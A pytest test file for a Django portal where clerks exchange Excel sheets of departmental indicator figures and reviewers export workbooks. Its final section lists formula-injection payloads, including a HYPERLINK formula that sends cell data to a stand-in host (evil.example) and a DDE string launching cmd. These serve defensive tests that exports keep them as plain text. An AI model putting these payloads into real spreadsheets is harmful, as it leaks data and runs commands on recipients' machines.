"""The clerk's sheet (download, fill in, upload) and the reviewers' workbook of a period."""

import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from accounts import demo
from metrics.models import Figure, FigureStatus


def _sheet(client, period="2026"):
    response = client.get(f"/entry/{period}/sheet.xlsx")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    return load_workbook(io.BytesIO(response.content))


def _upload(client, workbook, period="2026", name="sfj.xlsx"):
    buffer = io.BytesIO()
    workbook.save(buffer)
    buffer.name = name
    buffer.seek(0)
    response = client.post(f"/entry/{period}/upload/", {"file": buffer}, follow=True)
    assert response.status_code == 200
    return [str(m) for m in response.context["messages"]]


def _fill(sheet, values: dict):
    for row in sheet.iter_rows(min_row=2):
        code = row[0].value
        if code in values:
            value, remark = (
                values[code] if isinstance(values[code], tuple) else (values[code], None)
            )
            row[4].value = value
            row[5].value = remark


@pytest.fixture
def clerk_client(client, clerk, period):
    client.force_login(clerk)
    return client


def test_download_has_the_columns_and_validation(clerk_client, sfj, previous_period):
    from metrics.models import Indicator

    Figure.objects.create(
        indicator=Indicator.objects.get(code="biz_review_cases_received"),
        period=previous_period,
        value=58,
        status=FigureStatus.APPROVED,
    )
    workbook = _sheet(clerk_client)
    sheet = workbook.worksheets[0]
    assert [c.value for c in sheet[1]][:6] == [
        "代码",
        "指标",
        "单位",
        "上期数值",
        "本期数值",
        "备注",
    ]
    assert [c.value for c in sheet[1]][6:] == ["门户中的当前值", "当前状态", "版本"]
    assert sheet.column_dimensions["I"].hidden
    rows = {r[0]: r for r in sheet.iter_rows(min_row=2, values_only=True)}
    assert set(rows) == set(sfj.indicators.entered().values_list("code", flat=True))
    assert rows["biz_review_cases_received"][1:5] == ("受理行政复议案件", "起", 58, None)
    validations = sheet.data_validations.dataValidation
    kinds = {(v.type, v.operator) for v in validations}
    assert ("whole", "greaterThanOrEqual") in kinds and ("decimal", "between") in kinds
    covered = " ".join(str(v.sqref) for v in validations)
    assert all(f"E{n}" in covered for n in range(2, sheet.max_row + 1))
    assert workbook["填报说明"]["B1"].value == "2026"


def test_round_trip_saves_drafts_and_skips_empty_rows(clerk_client, clerk):
    workbook = _sheet(clerk_client)
    _fill(
        workbook.worksheets[0],
        {
            "biz_review_cases_received": (64, "含撤回 2 起"),
            "biz_leader_court_appearance_rate": 98.5,
        },
    )
    messages = _upload(clerk_client, workbook)
    assert "已从 Excel 导入 2 项数据" in messages[0]
    received = Figure.objects.get(indicator__code="biz_review_cases_received")
    assert (received.value, received.remark, received.status) == (64, "含撤回 2 起", "draft")
    assert Figure.objects.get(indicator__code="biz_leader_court_appearance_rate").value == Decimal(
        "98.5"
    )
    assert received.history.get().history_user == clerk


def test_a_sheet_taken_before_a_change_in_the_portal_is_refused(clerk_client, clerk, period):
    """The sheet remembers each figure's version: uploading it after the figure changed in
    the portal would silently overwrite that change, so the whole sheet is refused."""
    from metrics import services
    from metrics.models import Indicator

    counsel = Indicator.objects.get(code="biz_inhouse_counsel")
    services.save_figure(indicator=counsel, period=period, value=Decimal(3), user=clerk)
    workbook = _sheet(clerk_client)
    services.save_figure(indicator=counsel, period=period, value=Decimal(4), user=clerk)
    _fill(
        workbook.worksheets[0],
        {"biz_inhouse_counsel": 5, "biz_review_cases_received": 64},
    )
    messages = " ".join(_upload(clerk_client, workbook))
    assert "导入失败" in messages and "当前值为 4" in messages and "重新下载填报表" in messages
    assert Figure.objects.get(indicator=counsel).value == 4
    assert not Figure.objects.filter(indicator__code="biz_review_cases_received").exists()

    fresh = _sheet(clerk_client)
    _fill(fresh.worksheets[0], {"biz_inhouse_counsel": 5})
    assert "已从 Excel 导入 1 项数据" in _upload(clerk_client, fresh)[0]
    assert Figure.objects.get(indicator=counsel).value == 5


def test_the_sheet_shows_what_the_portal_holds_now(clerk_client, clerk, period):
    from metrics import services
    from metrics.models import Indicator

    services.save_figure(
        indicator=Indicator.objects.get(code="biz_inhouse_counsel"),
        period=period,
        value=Decimal(13),
        user=clerk,
    )
    rows = {
        r[0]: r for r in _sheet(clerk_client).worksheets[0].iter_rows(min_row=2, values_only=True)
    }
    assert rows["biz_inhouse_counsel"][4:8] == (None, None, 13, "草稿")
    assert rows["biz_external_lawyers"][6:8] == (None, "未填")


def test_a_sheet_without_the_version_column_still_imports(clerk_client, clerk, period):
    workbook = _sheet(clerk_client)
    sheet = workbook.worksheets[0]
    sheet.delete_cols(9)  # 版本
    _fill(sheet, {"biz_inhouse_counsel": 5})
    assert "已从 Excel 导入 1 项数据" in _upload(clerk_client, workbook)[0]


@pytest.mark.parametrize(
    ("values", "expected"),
    [
        ({"biz_inhouse_counsel": "十二"}, "不是数字"),
        ({"biz_inhouse_counsel": -1}, "不能为负数"),
        ({"biz_inhouse_counsel": 2.5}, "应为整数"),
        ({"biz_leader_court_appearance_rate": 101}, "0 到 100"),
        ({"lead_council_study_per_quarter": 0}, "不应小于 1"),
    ],
)
def test_bad_values_refuse_the_whole_sheet(clerk_client, values, expected):
    workbook = _sheet(clerk_client)
    _fill(workbook.worksheets[0], {"biz_review_cases_received": 10, **values})
    messages = _upload(clerk_client, workbook)
    assert messages[0].startswith("导入失败")
    assert any(expected in m and "第" in m for m in messages[1:]), messages
    assert not Figure.objects.exists()


def test_unknown_foreign_and_duplicate_codes(clerk_client):
    workbook = _sheet(clerk_client)
    sheet = workbook.worksheets[0]
    sheet.append(["no_such_code", "", "", None, 1, None])
    sheet.append(["grass_grid_workers", "", "", None, 1, None])
    sheet.append(["biz_inhouse_counsel", "", "", None, 3, None])
    sheet.append(["biz_inhouse_counsel", "", "", None, 4, None])
    messages = " ".join(_upload(clerk_client, workbook))
    assert "未知的指标代码“no_such_code”" in messages
    assert "不属于区司法局" in messages
    assert "重复" in messages
    assert not Figure.objects.exists()


def test_wrong_period_wrong_header_empty_and_not_excel(clerk_client, clerk):
    workbook = _sheet(clerk_client)
    workbook["填报说明"]["B1"] = "2025"
    assert "不是2026年度" in " ".join(_upload(clerk_client, workbook))

    other = Workbook()
    other.active.append(["指标", "数值"])
    other.active.append(["biz_inhouse_counsel", 3])
    assert "表头不正确" in " ".join(_upload(clerk_client, other))

    empty = _sheet(clerk_client)
    assert "没有填写任何数值" in " ".join(_upload(clerk_client, empty))

    response = clerk_client.post(
        "/entry/2026/upload/",
        {"file": io.BytesIO(b"code,value\nbiz_inhouse_counsel,3\n")},
        follow=True,
    )
    assert "无法读取该 Excel 文件" in response.content.decode()
    assert not Figure.objects.exists()


def test_submitted_figures_and_locked_periods_refuse_the_sheet(clerk_client, clerk, period):
    from metrics import services
    from metrics.models import Indicator

    services.save_figure(
        indicator=Indicator.objects.get(code="biz_inhouse_counsel"),
        period=period,
        value=Decimal(3),
        user=clerk,
    )
    Figure.objects.update(status=FigureStatus.SUBMITTED)
    workbook = _sheet(clerk_client)
    _fill(workbook.worksheets[0], {"biz_inhouse_counsel": 5})
    assert "已报送，不能再修改" in " ".join(_upload(clerk_client, workbook))
    period.state = "locked"
    period.save()
    Figure.objects.update(status=FigureStatus.DRAFT)
    assert "已锁定" in " ".join(_upload(clerk_client, workbook))
    assert Figure.objects.get().value == 3


def test_other_roles_cannot_use_the_clerk_sheet(client, reviewer, period):
    client.force_login(reviewer)
    assert client.get("/entry/2026/sheet.xlsx").status_code == 403
    assert client.post("/entry/2026/upload/").status_code == 403


def test_reviewer_downloads_every_department_in_one_workbook(
    client, demo_data, django_assert_max_num_queries
):
    client.login(username="reviewer", password=demo.DEMO_PASSWORD)
    with django_assert_max_num_queries(12):
        response = client.get("/review/2026/export.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    # The 32 entered indicators, then the 2 computed ones, as numbers and marked 计算.
    assert len(rows) == 34
    computed = {r[2]: r for r in rows[32:]}
    assert set(computed) == {"biz_review_closure_rate", "biz_external_counsel_total"}
    assert {r[8] for r in computed.values()} == {"计算"}
    assert all(isinstance(r[6], int | float) for r in computed.values())
    assert {r[0] for r in rows} >= {"区司法局", "公安分局", "区委宣传部"}
    received = next(r for r in rows if r[2] == "biz_review_cases_received")
    assert (received[5], received[6], received[7], received[8]) == (
        58,
        64,
        "同比增长10.3%",
        "已报送",
    )
    assert next(r for r in rows if r[2] == "grass_patrol_townships")[7:9] == ("本期未填报", "未填")
    client.login(username="clerk_sfj", password=demo.DEMO_PASSWORD)
    assert client.get("/review/2026/export.xlsx").status_code == 403


# --- text that looks like a formula stays text --------------------------------------------

HOSTILE_TEXTS = [
    '=HYPERLINK("http://evil.example/?d="&A2,"点击核对")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
]


def _no_formulas(data: bytes):
    """No sheet of the file holds a formula element."""
    import re
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[ >]", archive.read(name)), name


def _is_plain_text(cell, text):
    assert cell.value == text  # readable, exactly as written
    assert cell.data_type == "s" and cell.data_type != "f"
    assert cell.quotePrefix  # Excel keeps it text even when the cell is edited


def test_the_reviewer_export_writes_remarks_as_text_not_formulas(client, reviewer, period):
    from metrics.models import Indicator

    remark, explanation, reason, other = HOSTILE_TEXTS[:4]
    Figure.objects.create(
        indicator=Indicator.objects.get(code="biz_review_cases_received"),
        period=period,
        value=64,
        remark=remark,
        explanation=explanation,
        return_reason=reason,
        status=FigureStatus.RETURNED,
    )
    Figure.objects.create(
        indicator=Indicator.objects.get(code="biz_inhouse_counsel"),
        period=period,
        value=3,
        remark=other,
    )
    client.force_login(reviewer)
    response = client.get("/review/2026/export.xlsx")
    assert response.status_code == 200
    _no_formulas(response.content)
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    header = [c.value for c in sheet[1]]
    rows = {r[2].value: r for r in sheet.iter_rows(min_row=2)}
    received = rows["biz_review_cases_received"]
    _is_plain_text(received[header.index("备注")], remark)
    _is_plain_text(received[header.index("上报说明")], explanation)
    _is_plain_text(received[header.index("退回原因")], reason)
    _is_plain_text(rows["biz_inhouse_counsel"][header.index("备注")], other)
    value = received[header.index("本期数值")]
    assert (value.value, value.data_type) == (64, "n")  # numbers stay numbers
    assert not received[header.index("部门")].quotePrefix  # ordinary text is left alone


def test_the_clerk_sheet_writes_names_as_text(clerk_client, sfj, period):
    from tests import factories

    factories.IndicatorFactory(
        code="biz_formula_named", department=sfj, name=HOSTILE_TEXTS[0], unit="@件"
    )
    response = clerk_client.get("/entry/2026/sheet.xlsx")
    _no_formulas(response.content)
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "biz_formula_named")
    _is_plain_text(row[1], HOSTILE_TEXTS[0])
    _is_plain_text(row[2], "@件")


def test_a_formula_looking_remark_round_trips_unchanged(clerk_client, period):
    """The clerk's own remark, typed as text, is imported exactly and exported as text."""
    workbook = _sheet(clerk_client)
    _fill(workbook.worksheets[0], {"biz_inhouse_counsel": (3, None)})
    for row in workbook.worksheets[0].iter_rows(min_row=2):
        if row[0].value == "biz_inhouse_counsel":
            row[5].value = HOSTILE_TEXTS[3]  # "@SUM(A1:A9)": openpyxl keeps it a string
    assert "已从 Excel 导入 1 项数据" in _upload(clerk_client, workbook)[0]
    assert Figure.objects.get(indicator__code="biz_inhouse_counsel").remark == HOSTILE_TEXTS[3]
